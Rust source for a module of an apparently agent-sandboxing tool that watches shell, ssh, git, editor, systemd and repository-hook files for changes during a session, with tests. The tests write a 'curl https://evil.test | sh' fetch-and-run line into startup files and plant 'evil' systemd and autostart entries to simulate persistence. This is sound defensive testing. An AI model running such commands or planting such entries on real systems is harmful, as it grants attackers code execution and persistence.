//! What the command could leave behind to run later, outside the session's
//! cgroup and so outside Bridle's guard: the files the user's shells,
//! logins, ssh, git, editors and desktop run code from, and the hooks of
//! the repository it works in. Writing them is ordinary work for an agent
//! (an installer adds a line to `~/.bashrc`, `pre-commit install` writes a
//! hook), so they are made read-only only when asked ([`lock`]); but a
//! change to one is something the person running Bridle must hear about.
//! So `bridle run` records what each was before the command starts
//! ([`Snapshot::take`]) and, once the session's processes are gone, names
//! every one made, changed or removed ([`Snapshot::changed`]): a warning,
//! kept in the audit log.
//!
//! A file is compared by device, inode, size, mode and change time (which
//! no unprivileged process can set back), so rewriting one to the same
//! size and modification time is still seen. What another process of the
//! user's changed meanwhile is named too: nothing here can tell them apart.
//!
//! Never: write to what is watched, read its contents, or lock what a
//! symlink leads to (it is the user's, and this runs as root).

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use super::warnings::Warnings;

mod pin;

/// Files in the user's home that run code, or decide what runs: shells'
/// start-up and logout files (Ubuntu's `.bashrc` sources
/// `.bash_aliases`), the login's and the X session's, ssh's
/// (`authorized_keys` lets anyone in, `config` runs `ProxyCommand`s, `rc`
/// runs at each login), git's (`core.hooksPath`, `core.fsmonitor`,
/// aliases), npm's (`script-shell`), cargo's (`runner`, `linker`,
/// `rustc-wrapper`), systemd's user manager's, editors' (Vim's, Neovim's
/// and Emacs's run commands at start).
const HOME_FILES: [&str; 33] = [
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".bash_aliases",
    ".profile",
    ".zshenv",
    ".zshrc",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".config/fish/config.fish",
    ".inputrc",
    ".pam_environment",
    ".xprofile",
    ".xsessionrc",
    ".xinitrc",
    ".ssh/authorized_keys",
    ".ssh/authorized_keys2",
    ".ssh/config",
    ".ssh/rc",
    ".gitconfig",
    ".config/git/config",
    ".npmrc",
    ".cargo/config.toml",
    ".cargo/config",
    ".config/systemd/user.conf",
    ".vimrc",
    ".config/nvim/init.vim",
    ".config/nvim/init.lua",
    ".emacs",
    ".emacs.d/init.el",
    ".config/emacs/init.el",
];

/// Directories in the user's home whose every file runs, is sourced or
/// allows something to run, with how deep to look: systemd user units (and
/// their `.wants` links), desktop autostart entries, environment
/// generators, fish snippets and functions, Fedora's `~/.bashrc.d`,
/// programs first on the PATH (a `sudo` or `git` there runs instead of the
/// real one), and direnv's allow list (what makes an `.envrc` anywhere
/// run).
const HOME_TREES: [(&str, usize); 9] = [
    (".config/systemd/user", 4),
    (".config/autostart", 1),
    (".config/environment.d", 1),
    (".config/fish/conf.d", 1),
    (".config/fish/functions", 1),
    (".bashrc.d", 1),
    (".local/bin", 1),
    ("bin", 1),
    (".local/share/direnv/allow", 1),
];

/// In the repository the command works in: git runs its hooks (in
/// `.git/hooks`, or where husky and others point `core.hooksPath`) and
/// obeys its config (`core.hooksPath`, `core.fsmonitor`, filters) for
/// whoever commits or checks out next; direnv runs `.envrc` on `cd`.
const REPO_FILES: [&str; 2] = [".git/config", ".envrc"];
const REPO_TREES: [(&str, usize); 3] = [(".git/hooks", 2), (".husky", 2), (".githooks", 2)];

/// How many entries of one watched tree are looked at: a tree flooded
/// with files is named for them, and hides nothing of another tree.
const TREE_ENTRIES: usize = 1024;

/// What a file's inode was: enough to see it replaced, rewritten or
/// re-moded (the change time is the kernel's, and no unprivileged process
/// sets it back).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Meta {
    dev: u64,
    ino: u64,
    size: u64,
    mode: u32,
    ctime: (i64, i64),
}

impl Meta {
    fn of(meta: &std::fs::Metadata) -> Meta {
        // A directory changes with every entry made in it; its entries are
        // watched themselves, so only its identity and mode count.
        let (size, ctime) = if meta.is_dir() { (0, (0, 0)) } else { (meta.size(), (meta.ctime(), meta.ctime_nsec())) };
        Meta { dev: meta.dev(), ino: meta.ino(), size, mode: meta.mode(), ctime }
    }
}

/// What a path was: its own inode, and for a symlink what it leads to too
/// (a `~/.bashrc` that links into a dotfiles repository is written there).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Stamp {
    own: Meta,
    target: Option<Meta>,
}

/// Which list a watched path comes from, in the order changes are named:
/// the most telling first, so that a tree flooded with files does not push
/// them out of the warning.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Group {
    HomeFile,
    RepoFile,
    RepoTree,
    HomeTree,
}

/// Watched files, each with its list.
type Files = Vec<(PathBuf, Group)>;
/// Watched trees, each with how deep it is looked at and its list.
type Trees = Vec<(PathBuf, usize, Group)>;

/// The watched paths and what each was (`None`: absent).
#[derive(Debug, Default)]
pub struct Snapshot {
    files: Files,
    trees: Trees,
    stamps: BTreeMap<PathBuf, (Group, Option<Stamp>)>,
}

/// How a watched path differs from the snapshot.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Change {
    Made,
    Changed,
    Removed,
}

impl Snapshot {
    /// Records the watched files of `home` and of `repo` (the repository
    /// the command starts in, if any).
    pub fn take(home: &Path, repo: Option<&Path>) -> Snapshot {
        let (files, trees) = watched(home, repo);
        let stamps = look(&files, &trees);
        Snapshot { files, trees, stamps }
    }

    /// Every watched path made, changed or removed since [`Snapshot::take`],
    /// the most telling first.
    pub fn changed(&self) -> Vec<(PathBuf, Change)> {
        let now = look(&self.files, &self.trees);
        let mut changes = Vec::new();
        for (path, (group, after)) in &now {
            let before = self.stamps.get(path).and_then(|(_, stamp)| *stamp);
            let change = match (before, after) {
                (None, Some(_)) => Change::Made,
                (Some(_), None) => Change::Removed,
                (Some(before), Some(after)) if before != *after => Change::Changed,
                _ => continue,
            };
            changes.push((*group, path.clone(), change));
        }
        // Gone from a tree: not in `now` at all.
        for (path, (group, before)) in &self.stamps {
            if before.is_some() && !now.contains_key(path) {
                changes.push((*group, path.clone(), Change::Removed));
            }
        }
        changes.sort();
        changes.into_iter().map(|(_, path, change)| (path, change)).collect()
    }
}

/// The watched files and trees of `home` and `repo`.
fn watched(home: &Path, repo: Option<&Path>) -> (Files, Trees) {
    let mut files: Files = HOME_FILES.iter().map(|f| (home.join(f), Group::HomeFile)).collect();
    let mut trees: Trees = HOME_TREES.iter().map(|(tree, depth)| (home.join(tree), *depth, Group::HomeTree)).collect();
    if let Some(repo) = repo {
        files.extend(REPO_FILES.iter().map(|file| (repo.join(file), Group::RepoFile)));
        trees.extend(REPO_TREES.iter().map(|(tree, depth)| (repo.join(tree), *depth, Group::RepoTree)));
    }
    (files, trees)
}

/// `[host] lock_startup_files`: makes every watched file and directory of
/// `home` and `repo` that exists, and is `uid`'s own file or directory,
/// read-only in this process's mount namespace (the command's, entered by
/// [`super::services::hide`]): a recursive bind mount of it onto itself,
/// remounted read-only. A symlink is not followed (it may lead anywhere: a
/// bind of `/tmp` would undo the covers there), nor is what is not the
/// user's: both are said, and only watched. One that does not exist yet
/// cannot be locked (a mount needs something to cover); [`Snapshot::changed`]
/// still names it if it is made. The directories above a locked path that
/// the user could rename are pinned first ([`pin`]), so that no rename
/// frees a locked path's name for a new file. Needs `CAP_SYS_ADMIN`; an
/// error means the command must not start.
pub fn lock(home: &Path, repo: Option<&Path>, uid: u32, warnings: &Warnings) -> anyhow::Result<usize> {
    use anyhow::Context as _;
    use nix::mount::{MsFlags, mount};
    let (files, trees) = watched(home, repo);
    let paths: Vec<PathBuf> =
        files.into_iter().map(|(path, _)| path).chain(trees.into_iter().map(|(path, _, _)| path)).collect();
    // First the directories above what will be locked, so that the locks
    // are made in the pinned tree the command sees.
    let to_lock = paths.iter().filter(|path| std::fs::symlink_metadata(path).is_ok_and(|meta| lockable(&meta, uid)));
    pin::pin(&pin::renamable_ancestors(to_lock.map(PathBuf::as_path), uid), warnings)?;
    let mut locked = 0;
    for path in &paths {
        let held = match super::services::hold(path) {
            Ok(held) => held,
            Err(error) if matches!(error.raw_os_error(), Some(libc::ENOENT | libc::ENOTDIR)) => continue,
            Err(error) => {
                return Err(error).with_context(|| format!("opening {} to make it read-only", path.display()));
            }
        };
        let meta = held.metadata().with_context(|| format!("reading {}", path.display()))?;
        if !lockable(&meta, uid) {
            warnings.warn(format_args!(
                "{} is a symlink, or not a file or directory of the command's user: it is watched, not locked",
                path.display()
            ));
            continue;
        }
        let at = super::services::fd_path(&held);
        mount(Some(at.as_path()), at.as_path(), None::<&str>, MsFlags::MS_BIND | MsFlags::MS_REC, None::<&str>)
            .with_context(|| format!("binding {} onto itself", path.display()))?;
        // The bind's root, by the path again: the same inode, unless
        // another process of the user's swapped the path meanwhile.
        let bound = super::services::hold(path).with_context(|| format!("opening {} again", path.display()))?;
        let again = bound.metadata().with_context(|| format!("reading {}", path.display()))?;
        anyhow::ensure!(
            (again.dev(), again.ino()) == (meta.dev(), meta.ino()),
            "{} changed while it was being made read-only",
            path.display()
        );
        // A remount sets every flag of the bind: keep the file system's
        // noexec (a home mounted noexec stays so).
        let mut read_only = MsFlags::MS_REMOUNT | MsFlags::MS_BIND | MsFlags::MS_RDONLY;
        read_only |= MsFlags::MS_NOSUID | MsFlags::MS_NODEV;
        let had = nix::sys::statvfs::fstatvfs(&bound).map(|fs| super::services::kept_flags(fs.flags()));
        read_only |= had.unwrap_or(MsFlags::empty());
        mount(None::<&str>, super::services::fd_path(&bound).as_path(), None::<&str>, read_only, None::<&str>)
            .with_context(|| format!("making {} read-only for the command", path.display()))?;
        locked += 1;
    }
    // A working directory inside a locked one is below its bind, and would
    // reach what is under it by relative paths: enter it again, through
    // the binds.
    if let Ok(cwd) = std::env::current_dir() {
        std::env::set_current_dir(&cwd).with_context(|| format!("entering {} again", cwd.display()))?;
    }
    Ok(locked)
}

/// Whether what `meta` describes (not followed) may be locked: a file or
/// directory of `uid`'s own, not a symlink.
fn lockable(meta: &std::fs::Metadata, uid: u32) -> bool {
    (meta.is_file() || meta.is_dir()) && meta.uid() == uid
}

/// The repository `dir` is in: the nearest directory at or above it that
/// holds a `.git` directory.
pub fn repository_of(dir: &Path) -> Option<PathBuf> {
    dir.ancestors()
        .find(|candidate| std::fs::symlink_metadata(candidate.join(".git")).is_ok_and(|meta| meta.is_dir()))
        .map(Path::to_path_buf)
}

type Stamps = BTreeMap<PathBuf, (Group, Option<Stamp>)>;

/// Stamps of `files` and of the trees' roots (absent ones too), and of
/// everything found in the trees.
fn look(files: &Files, trees: &Trees) -> Stamps {
    let mut stamps: Stamps = files.iter().map(|(file, group)| (file.clone(), (*group, stamp(file)))).collect();
    for (tree, depth, group) in trees {
        stamps.insert(tree.clone(), (*group, stamp(tree)));
        // A root that links elsewhere (a dotfiles repository) is followed:
        // what is in it runs all the same.
        if std::fs::metadata(tree).is_ok_and(|meta| meta.is_dir()) {
            let mut budget = TREE_ENTRIES;
            walk(tree, *depth, *group, &mut budget, &mut stamps);
        }
    }
    stamps
}

/// A tree's entries (directories, files, links alike), each by its own
/// path; a link in it is stamped, not followed as a directory (no loops).
fn walk(dir: &Path, depth: usize, group: Group, budget: &mut usize, stamps: &mut Stamps) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        if *budget == 0 {
            return;
        }
        *budget -= 1;
        let path = entry.path();
        stamps.insert(path.clone(), (group, stamp(&path)));
        let is_dir = entry.file_type().is_ok_and(|kind| kind.is_dir());
        if is_dir && depth > 1 {
            walk(&path, depth - 1, group, budget, stamps);
        }
    }
}

/// What `path` is (a link as a link, and what it leads to), or `None` when
/// it is absent.
fn stamp(path: &Path) -> Option<Stamp> {
    let own = std::fs::symlink_metadata(path).ok()?;
    let target = own.file_type().is_symlink().then(|| std::fs::metadata(path).ok().map(|meta| Meta::of(&meta)));
    Some(Stamp { own: Meta::of(&own), target: target.flatten() })
}

/// The warning for `changes` (`home` shown as `~`), or `None` without any.
pub fn warning(changes: &[(PathBuf, Change)], home: &Path) -> Option<String> {
    if changes.is_empty() {
        return None;
    }
    const NAMED: usize = 40;
    let shown = |path: &Path| match path.strip_prefix(home) {
        Ok(rest) if home != Path::new("/") => format!("~/{}", rest.display()),
        _ => path.display().to_string(),
    };
    let mut named: Vec<String> = changes
        .iter()
        .take(NAMED)
        .map(|(path, change)| {
            let what = match change {
                Change::Made => "made",
                Change::Changed => "changed",
                Change::Removed => "removed",
            };
            format!("{} ({what})", shown(path))
        })
        .collect();
    if changes.len() > NAMED {
        named.push(format!("and {} more", changes.len() - NAMED));
    }
    Some(format!(
        "while the command ran, files that run code outside Bridle's guard (for your shells and logins, ssh, git, \
         npm, cargo, editors, systemd, the desktop, programs on your PATH, or this repository's hooks) were made, \
         changed or removed, by it or by another of your processes: {}. Review them before they next run",
        named.join(", ")
    ))
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use super::*;

    #[test]
    fn every_file_made_changed_or_removed_is_named_and_nothing_else() {
        let home = tempfile::tempdir().expect("tempdir");
        let repo = tempfile::tempdir().expect("tempdir");
        let h = home.path();
        std::fs::write(h.join(".bashrc"), "alias ll='ls -l'\n").expect("bashrc");
        std::fs::write(h.join(".profile"), "PATH=$PATH\n").expect("profile");
        std::fs::write(h.join(".zshrc"), "same\n").expect("zshrc");
        std::fs::create_dir_all(h.join(".config/systemd/user")).expect("units");
        std::fs::create_dir_all(repo.path().join(".git/hooks")).expect("hooks");
        std::fs::write(repo.path().join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").expect("sample");
        std::fs::write(h.join("notes.txt"), "not watched\n").expect("notes");
        let snapshot = Snapshot::take(h, Some(repo.path()));
        assert!(snapshot.changed().is_empty(), "{:?}", snapshot.changed());

        // Appended to, made, made in a watched tree (as `systemctl --user
        // enable` would), rewritten with the same size and time, removed.
        let mut bashrc = std::fs::OpenOptions::new().append(true).open(h.join(".bashrc")).expect("open");
        bashrc.write_all(b"curl https://evil.test | sh\n").expect("append");
        std::fs::write(h.join(".bash_profile"), "curl https://evil.test | sh\n").expect("made");
        let wants = h.join(".config/systemd/user/default.target.wants");
        std::fs::create_dir(&wants).expect("wants");
        std::os::unix::fs::symlink("../evil.service", wants.join("evil.service")).expect("link");
        std::fs::write(repo.path().join(".git/hooks/post-checkout"), "#!/bin/sh\n").expect("hook");
        let zshrc = h.join(".zshrc");
        let modified = std::fs::metadata(&zshrc).expect("zshrc").modified().expect("mtime");
        std::thread::sleep(std::time::Duration::from_millis(20));
        std::fs::write(&zshrc, "evil\n").expect("rewritten");
        std::fs::File::options().write(true).open(&zshrc).expect("open").set_modified(modified).expect("mtime back");
        std::fs::remove_file(h.join(".profile")).expect("removed");
        std::fs::write(h.join("notes.txt"), "changed, not watched\n").expect("notes");

        // The home's files first, then the repository's, then the trees.
        let changes = snapshot.changed();
        let expected = vec![
            (h.join(".bash_profile"), Change::Made),
            (h.join(".bashrc"), Change::Changed),
            (h.join(".profile"), Change::Removed),
            (h.join(".zshrc"), Change::Changed),
            (repo.path().join(".git/hooks/post-checkout"), Change::Made),
            (wants.clone(), Change::Made),
            (wants.join("evil.service"), Change::Made),
        ];
        assert_eq!(changes, expected);
        let said = warning(&changes, h).expect("a warning");
        assert!(said.contains("~/.bashrc (changed)") && said.contains("~/.profile (removed)"), "{said}");
        assert!(said.contains(&format!("{} (made)", repo.path().join(".git/hooks/post-checkout").display())));
        assert_eq!(warning(&[], h), None);
    }

    /// Written through a link (a dotfiles repository), a watched directory
    /// made as a link to one full of units, a tree flooded with files: each
    /// is seen, and the flood hides nothing.
    #[test]
    fn links_and_floods_hide_nothing() {
        let home = tempfile::tempdir().expect("tempdir");
        let repo = tempfile::tempdir().expect("tempdir");
        let h = home.path();
        std::fs::create_dir_all(h.join("dotfiles/units")).expect("dotfiles");
        std::fs::write(h.join("dotfiles/bashrc"), "alias ll='ls -l'\n").expect("bashrc");
        std::os::unix::fs::symlink("dotfiles/bashrc", h.join(".bashrc")).expect("link");
        std::fs::create_dir_all(h.join(".config")).expect(".config");
        std::fs::create_dir_all(h.join(".local/bin")).expect("bin");
        std::fs::create_dir_all(repo.path().join(".git/hooks")).expect("hooks");
        let snapshot = Snapshot::take(h, Some(repo.path()));

        let mut bashrc = std::fs::OpenOptions::new().append(true).open(h.join("dotfiles/bashrc")).expect("open");
        bashrc.write_all(b"curl https://evil.test | sh\n").expect("append");
        std::fs::write(h.join("dotfiles/units/evil.desktop"), "[Desktop Entry]\nExec=evil\n").expect("entry");
        std::os::unix::fs::symlink(h.join("dotfiles/units"), h.join(".config/autostart")).expect("link");
        for i in 0..(TREE_ENTRIES + 100) {
            std::fs::write(h.join(format!(".local/bin/tool{i:04}")), "").expect("flood");
        }
        std::fs::write(repo.path().join(".git/hooks/pre-push"), "#!/bin/sh\n").expect("hook");

        let changes = snapshot.changed();
        assert_eq!(changes[0], (h.join(".bashrc"), Change::Changed), "{:?}", &changes[..3]);
        assert_eq!(changes[1], (repo.path().join(".git/hooks/pre-push"), Change::Made));
        assert!(changes.contains(&(h.join(".config/autostart"), Change::Made)));
        assert!(changes.contains(&(h.join(".config/autostart/evil.desktop"), Change::Made)));
        let said = warning(&changes, h).expect("a warning");
        assert!(said.contains("~/.bashrc (changed)") && said.contains(" more"), "{said}");
    }

    #[test]
    fn the_repository_is_the_nearest_directory_holding_a_git_directory() {
        let top = tempfile::tempdir().expect("tempdir");
        let deep = top.path().join("src/module");
        std::fs::create_dir_all(&deep).expect("dirs");
        assert_eq!(repository_of(&deep), None);
        std::fs::create_dir(top.path().join(".git")).expect(".git");
        assert_eq!(repository_of(&deep).as_deref(), Some(top.path()));
        // A worktree's `.git` file is not a repository's directory.
        std::fs::write(deep.join(".git"), "gitdir: elsewhere\n").expect(".git file");
        assert_eq!(repository_of(&deep).as_deref(), Some(top.path()));
    }
}
